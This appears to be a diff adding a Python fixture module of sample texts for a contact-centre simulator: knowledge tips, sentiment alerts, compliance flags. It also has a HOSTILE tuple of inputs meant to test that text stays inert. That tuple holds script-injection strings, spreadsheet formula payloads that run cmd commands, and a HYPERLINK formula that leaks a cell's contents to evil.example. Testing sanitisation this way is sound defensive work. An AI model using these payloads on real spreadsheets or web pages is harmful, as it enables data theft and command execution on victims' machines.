@@ -1,0 +1,55 @@
+"""Texts the simulator puts in insights: what agents and officers would really see."""
+
+KNOWLEDGE = (
+    "Offer the 30-day refund under policy KB-118: the order is within the return window "
+    "and the item is unopened.",
+    "Customer asks about international roaming: quote the Travel Pass add-on (KB-204), "
+    "10 per day, activated automatically on arrival.",
+    "Password reset loop: send the self-service link from KB-031 and confirm the customer "
+    "can receive SMS at the number on file.",
+    "Late delivery: apply the goodwill credit from KB-077 (up to 15) and give the new "
+    "delivery estimate from the carrier portal.",
+    "Direct debit failed: explain the 5-day retry window (KB-150) and offer to switch to a "
+    "card payment today.",
+    "Contract end date question: the minimum term ends on the date shown in Account > Plan; "
+    "early exit fees follow KB-309.",
+    "Warranty claim: devices under 24 months qualify for repair or replacement (KB-412); "
+    "collect the serial number first.",
+    "Address change: verify identity with two factors (KB-002) before updating the "
+    "billing address.",
+)
+SENTIMENT = (
+    "Customer frustration rising: three mentions of 'cancel' in the last minute and a "
+    "raised voice. Acknowledge the delay before offering options.",
+    "Negative sentiment detected after the hold: apologise for the wait and summarise "
+    "what has been done so far.",
+    "Customer sounds confused about the bill; slow down and walk through the charges line by line.",
+    "Sentiment improved after the refund offer; confirm next steps and close politely.",
+    "Customer mentions a bereavement: switch to the sensitive-circumstances script and "
+    "offer the specialist team.",
+)
+COMPLIANCE = (
+    "Agent has not read the call-recording disclosure within the first 30 seconds.",
+    "Card number spoken aloud on a recorded line: pause recording before taking payment "
+    "details (PCI DSS).",
+    "Agent promised a refund amount above their approval limit; a supervisor must confirm.",
+    "Identity not verified before discussing account balance.",
+    "Customer asked not to be contacted for marketing; the do-not-contact flag must be set "
+    "before the call ends.",
+    "Vulnerable customer indicators present; the agent must offer the accessibility options.",
+)
+# Text that must stay data: HTML and script in a page, formulas in a spreadsheet.
+HOSTILE = (
+    "<script>alert('xss')</script> Customer pasted this into the chat.",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
+    "+SUM(1+1)*cmd|' /C calc'!A0 quoted by the customer",
+    "-2+3+cmd|' /C notepad'!'A1' pasted from an email",
+    "@SUM(A1:A9) <img src=x onerror=alert(1)> in the customer's message",
+    '\tTabbed text with "quotes", commas, and a line\nbreak',
+)
+
+BY_TYPE = {
+    "knowledge_recommendation": KNOWLEDGE,
+    "sentiment_alert": SENTIMENT,
+    "compliance_flag": COMPLIANCE,
+}
